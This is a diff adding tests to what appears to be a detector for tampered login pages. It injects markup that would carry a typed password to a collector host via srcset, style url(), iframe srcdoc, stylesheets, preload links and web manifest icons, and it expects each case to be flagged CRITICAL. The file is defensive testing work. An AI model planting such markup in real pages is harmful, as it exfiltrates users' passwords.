@@ -62,6 +62,66 @@ for (const tier of tiers)
       },
     );
 
+/** What is asked for by more than one step, which the HTTP tier takes; `asked.spec.ts` has all that the markup alone says. */
+const furtherWays: Record<string, [markup: string, files?: Record<string, (password: string) => string>]> = {
+  'a set of pictures': [`<img alt="" srcset="${collector}/f.png?p=PASSWORD 2x">`],
+  'a style attribute': [`<p style="background: url('${collector}/g.png?p=PASSWORD')"></p>`],
+  'a document in a frame': [`<iframe srcdoc="<img src='${collector}/h.png?p=PASSWORD'>"></iframe>`],
+  'a sheet of the provider itself': [
+    '<link rel="stylesheet" href="/own.css">',
+    { '/own.css': (password) => `p { background: url(${collector}/i.png?p=${password}) }` },
+  ],
+  'a frame of the provider itself': [
+    '<iframe src="/own-frame"></iframe>',
+    {
+      '/own-frame': (password) =>
+        `<link rel="preload" as="image" imagesrcset="${collector}/j?p=${password}">`,
+    },
+  ],
+  'a manifest of the provider itself': [
+    '<link rel="manifest" href="/own.webmanifest">',
+    { '/own.webmanifest': (password) => `{"icons":[{"src":"${collector}/k.png?p=${password}"}]}` },
+  ],
+};
+
+function files(all: Record<string, (password: string) => string>, password: () => string): HttpHandler[] {
+  return Object.entries(all).map(([path, text]) =>
+    http.get(accountCentral + path, () => {
+      const type = path.endsWith('.css') ? 'text/css' : 'text/html';
+      return new Response(text(said(password())), { headers: { 'content-type': type } });
+    }),
+  );
+}
+
+for (const [what, [markup, beside = {}]] of Object.entries(furtherWays))
+  testIn.http(`http: a password that ${what} would carry elsewhere is CRITICAL`, async ({ watch, world }) => {
+    const gone: string[] = [];
+    let typed = '';
+    const change = (text: string, password: string) => {
+      typed = password;
+      return text.replace('</main>', `</main>${markup.replaceAll('PASSWORD', said(password))}`);
+    };
+    const handlers = (all: World) => [...files(beside, () => typed), ...withConsent(change, gone)(all)];
+    world.break({ name: 'beside', what: 'a page hands on', handlers });
+    const { findings } = await watch();
+    expect(gone).toEqual([]);
+    expect(findings[0]).toMatchObject({ class: 'login-changed', severity: 'CRITICAL' });
+  });
+
+testIn.http('http: frames deeper than anybody looks into need a browser', async ({ watch, world }) => {
+  const deep = (text: string) => {
+    let framed = '<p>deep</p>';
+    for (let depth = 0; depth < 7; depth++)
+      framed = `<iframe srcdoc="${framed.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
+    return text.replace('</main>', `</main>${framed}`);
+  };
+  world.break({ name: 'deep', what: 'a page has frames', handlers: withConsent(deep, []) });
+  const { findings } = await watch();
+  expect(findings).toMatchObject([
+    { class: 'inconclusive', message: expect.stringMatching(/needs a browser.*more beside it/) },
+  ]);
+});
+
 testIn.http('what a page would have sent when nobody looked any more is told as well', async ({ input }) => {
   const { check } = await import('../../core/canary/check.ts');
   const { UntrustedPlace } = await import('../../core/credentials/may-go.ts');
